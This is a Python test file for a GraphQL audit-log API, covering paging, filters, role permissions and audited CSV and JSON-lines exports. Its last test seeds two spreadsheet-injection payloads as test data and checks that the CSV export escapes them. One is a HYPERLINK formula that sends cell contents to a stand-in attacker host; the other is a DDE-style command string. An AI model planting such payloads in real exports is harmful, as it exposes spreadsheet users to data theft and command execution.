"""The audit log for AUDITOR and ADMIN: the filtered, paged log and audited exports."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

from app.runtime import Services
from resolvers.paging import encode_cursor
from tests.support.accounts import sign_up
from tests.support.audit import audit_entries
from tests.support.graphql import GraphQLClient
from tests.support.staff import Staff, make_staff

AUDIT_LOG = """
query ($first: Int!, $after: String, $filter: AuditLogFilter) {
  auditLog(first: $first, after: $after, filter: $filter) {
    edges {
      cursor
      node {
        id sequence action outcome actorHandle actorRoles actor { handle }
        targetType targetId target { ... on Account { handle } }
        reason before after requestId ip userAgent createdAt hash prevHash
      }
    }
    pageInfo { hasNextPage endCursor }
  }
}
"""
EXPORT = """
mutation ($input: ExportAuditLogInput!) {
  exportAuditLog(input: $input) {
    __typename
    ... on AuditLogExport { format data rowCount nextCursor }
    ... on UserError { code field }
  }
}
"""
GRANT = "mutation ($i: ChangeRoleInput!) { grantRole(input: $i) { __typename } }"


async def arrange(gql: GraphQLClient, services: Services) -> tuple[Staff, Staff]:
    """An ADMIN who granted SUPPORT to one account, and an AUDITOR."""
    admin = await make_staff(gql, services, "boss", "ADMIN")
    auditor = await make_staff(gql, services, "auditor", "AUDITOR")
    user = await sign_up(gql, "newhire")
    granted = await gql.execute(
        GRANT,
        {"i": {"accountId": user.id, "role": "SUPPORT", "reason": "joined support"}},
        token=admin.token,
    )
    assert granted["grantRole"]["__typename"] == "RolesPayload"
    return admin, auditor


def nodes(data: dict[str, Any]) -> list[dict[str, Any]]:
    return [e["node"] for e in data["auditLog"]["edges"]]


async def test_the_log_is_newest_first_with_every_detail(
    gql: GraphQLClient, services: Services
) -> None:
    _, auditor = await arrange(gql, services)

    data = await gql.execute(AUDIT_LOG, {"first": 100}, token=auditor.token)

    entries = nodes(data)
    stored = await audit_entries(services)
    assert [int(e["sequence"]) for e in entries] == [e.id for e in reversed(stored)]
    newest = entries[0]
    assert newest["action"] == "role.grant"
    assert newest["actor"] == {"handle": "boss"}
    assert newest["actorRoles"] == ["ADMIN", "USER"]
    assert newest["target"] == {"handle": "newhire"}
    assert (newest["reason"], newest["outcome"], newest["ip"]) == (
        "joined support",
        "ok",
        "203.0.113.7",
    )
    assert newest["before"] == {"roles": ["USER"]}
    assert newest["after"] == {"roles": ["SUPPORT", "USER"]}
    assert newest["prevHash"] == entries[1]["hash"]
    assert newest["requestId"] and newest["userAgent"]
    by_cli = entries[-1]
    assert (by_cli["actorHandle"], by_cli["actor"]) == ("system:cli", None)


async def test_the_log_pages_with_a_cursor_and_filters(
    gql: GraphQLClient, services: Services
) -> None:
    admin, auditor = await arrange(gql, services)
    total = len(await audit_entries(services))
    seen: list[str] = []
    after = None
    while True:
        data = await gql.execute(AUDIT_LOG, {"first": 2, "after": after}, token=admin.token)
        seen += [e["sequence"] for e in nodes(data)]
        if not data["auditLog"]["pageInfo"]["hasNextPage"]:
            break
        after = data["auditLog"]["pageInfo"]["endCursor"]
    stored = await audit_entries(services, action="role.grant")
    account_id = stored[-1].target_id
    now = datetime.now(UTC)

    by_actor = await gql.execute(
        AUDIT_LOG, {"first": 10, "filter": {"actorId": admin.id}}, token=auditor.token
    )
    by_target = await gql.execute(
        AUDIT_LOG,
        {"first": 10, "filter": {"targetType": "account", "targetId": account_id}},
        token=auditor.token,
    )
    by_action = await gql.execute(
        AUDIT_LOG, {"first": 10, "filter": {"action": "role.grant"}}, token=auditor.token
    )
    in_future = await gql.execute(
        AUDIT_LOG,
        {"first": 10, "filter": {"since": (now + timedelta(hours=1)).isoformat()}},
        token=auditor.token,
    )
    in_past = await gql.execute(
        AUDIT_LOG,
        {"first": 10, "filter": {"until": (now + timedelta(hours=1)).isoformat()}},
        token=auditor.token,
    )

    assert seen == [str(n) for n in range(total, 0, -1)]
    assert [e["actorHandle"] for e in nodes(by_actor)] == ["boss"]
    assert [e["reason"] for e in nodes(by_target)] == ["joined support"]
    assert len(nodes(by_action)) == len(stored)
    assert nodes(in_future) == []
    assert len(nodes(in_past)) == total


async def test_bad_filters_and_cursors_are_bad_user_input(
    gql: GraphQLClient, services: Services
) -> None:
    auditor = await make_staff(gql, services, "auditor", "AUDITOR")
    bad: list[dict[str, Any]] = [
        {"first": 101},
        {"first": 5, "after": encode_cursor(5)},  # a timeline cursor, not an audit one
        {"first": 5, "after": "garbage"},
        {"first": 5, "filter": {"targetId": "5"}},
        {"first": 5, "filter": {"since": "2026-01-02T00:00:00Z", "until": "2026-01-01T00:00:00Z"}},
        {"first": 5, "filter": {"since": "2026-01-02T00:00:00"}},
        {"first": 5, "filter": {"actorId": "nonsense"}},
        {"first": 5, "filter": {"action": "x" * 65}},
    ]

    for variables in bad:
        errors = await gql.errors(AUDIT_LOG, variables, token=auditor.token)
        assert errors[0]["extensions"]["code"] == "BAD_USER_INPUT", variables


async def test_the_log_without_permission_is_forbidden(
    gql: GraphQLClient, services: Services
) -> None:
    support = await make_staff(gql, services, "helper", "SUPPORT")
    user = await sign_up(gql, "user")

    for token in (support.token, user.token):
        errors = await gql.errors(AUDIT_LOG, {"first": 5}, token=token)
        assert errors[0]["extensions"]["code"] == "FORBIDDEN"


async def test_an_export_comes_in_chunks_oldest_first_and_each_chunk_is_audited(
    gql: GraphQLClient, services: Services
) -> None:
    _, auditor = await arrange(gql, services)
    stored = await audit_entries(services)
    until = (datetime.now(UTC) + timedelta(seconds=1)).isoformat()
    base = {"format": "JSON_LINES", "reason": "quarterly review", "limit": 2}
    base["filter"] = {"until": until, "action": "role.grant"}  # type: ignore[assignment]

    rows: list[dict[str, Any]] = []
    chunks = 0
    after = None
    while True:
        data = await gql.execute(EXPORT, {"input": {**base, "after": after}}, token=auditor.token)
        chunk = data["exportAuditLog"]
        assert chunk["__typename"] == "AuditLogExport", chunk
        rows += [json.loads(line) for line in chunk["data"].splitlines()]
        assert chunk["rowCount"] == len(chunk["data"].splitlines())
        chunks += 1
        after = chunk["nextCursor"]
        if after is None:
            break

    grants = [e for e in stored if e.action == "role.grant"]
    assert [r["id"] for r in rows] == [e.id for e in grants]
    assert [r["hash"] for r in rows] == [e.hash for e in grants]
    exports = await audit_entries(services, action="audit.export")
    assert len(exports) == chunks == (len(grants) + 1) // 2
    assert {(e.actor_handle, e.reason) for e in exports} == {("auditor", "quarterly review")}
    assert exports[0].after is not None and exports[0].after["rows"] == 2


async def test_a_csv_export_has_a_header_and_one_row_per_entry(
    gql: GraphQLClient, services: Services
) -> None:
    admin, _ = await arrange(gql, services)
    stored = await audit_entries(services)

    data = await gql.execute(
        EXPORT,
        {"input": {"format": "CSV", "reason": "for the lawyers", "limit": 100}},
        token=admin.token,
    )

    chunk = data["exportAuditLog"]
    table = list(csv.DictReader(io.StringIO(chunk["data"])))
    assert chunk["nextCursor"] is None
    assert [int(r["id"]) for r in table] == [e.id for e in stored]
    assert json.loads(table[-1]["after"]) == stored[-1].after
    assert table[0]["hash"] == stored[0].hash


async def test_refused_exports_are_typed_errors_and_audited(
    gql: GraphQLClient, services: Services
) -> None:
    auditor = await make_staff(gql, services, "auditor", "AUDITOR")
    cases = [
        ({"reason": "  "}, "REASON_REQUIRED"),
        ({"reason": "look", "after": "garbage"}, "INVALID_CURSOR"),
        ({"reason": "look", "after": encode_cursor(3)}, "INVALID_CURSOR"),
        ({"reason": "look", "limit": 0}, "INVALID_INPUT"),
        ({"reason": "look", "limit": 5001}, "INVALID_INPUT"),
        ({"reason": "look", "filter": {"targetId": "1"}}, "INVALID_FILTER"),
    ]

    codes = []
    for extra, _ in cases:
        data = await gql.execute(EXPORT, {"input": {"format": "CSV", **extra}}, token=auditor.token)
        codes.append(data["exportAuditLog"]["code"])

    malformed = await gql.execute(
        EXPORT,
        {"input": {"format": "CSV", "reason": "look", "filter": {"actorId": "nonsense"}}},
        token=auditor.token,
    )

    assert codes == [code for _, code in cases]
    assert malformed["exportAuditLog"] == {
        "__typename": "ValidationError",
        "code": "INVALID_ID",
        "field": "actorId",
    }
    refusals = [e.outcome for e in await audit_entries(services, action="audit.export")]
    assert refusals == [f"refused:{code}" for _, code in cases]


async def test_exporting_without_permission_is_forbidden(
    gql: GraphQLClient, services: Services
) -> None:
    support = await make_staff(gql, services, "helper", "SUPPORT")
    request = {"input": {"format": "CSV", "reason": "curious"}}

    errors = await gql.errors(EXPORT, request, token=support.token)

    assert errors[0]["extensions"]["code"] == "FORBIDDEN"
    assert await audit_entries(services, action="audit.export") == []


async def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run(
    gql: GraphQLClient, services: Services
) -> None:
    """A staff member's reason and User-Agent are their own text: opened in a spreadsheet,
    `=HYPERLINK(...)` must stay text, as it does in the account export."""
    admin = await make_staff(gql, services, "boss", "ADMIN")
    user = await sign_up(gql, "newhire")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    grant = {"i": {"accountId": user.id, "role": "SUPPORT", "reason": formula}}
    await gql.http.post(
        "/graphql",
        json={"query": GRANT, "variables": grant},
        headers={"authorization": f"Bearer {admin.token}", "user-agent": "@SUM(1+1)*cmd|calc"},
    )

    data = await gql.execute(
        EXPORT, {"input": {"format": "CSV", "reason": "for the lawyers"}}, token=admin.token
    )
    lines = await gql.execute(
        EXPORT, {"input": {"format": "JSON_LINES", "reason": "for the lawyers"}}, token=admin.token
    )

    [row] = [
        r
        for r in csv.DictReader(io.StringIO(data["exportAuditLog"]["data"]))
        if r["action"] == "role.grant" and r["actor_handle"] == "boss"
    ]
    assert (row["reason"], row["user_agent"]) == ("'" + formula, "'@SUM(1+1)*cmd|calc")
    # JSON lines stay exactly what the chain hashes.
    grants = [json.loads(line) for line in lines["exportAuditLog"]["data"].splitlines()]
    assert [
        g["reason"] for g in grants if g["action"] == "role.grant" and g["actor_handle"] == "boss"
    ] == [formula]
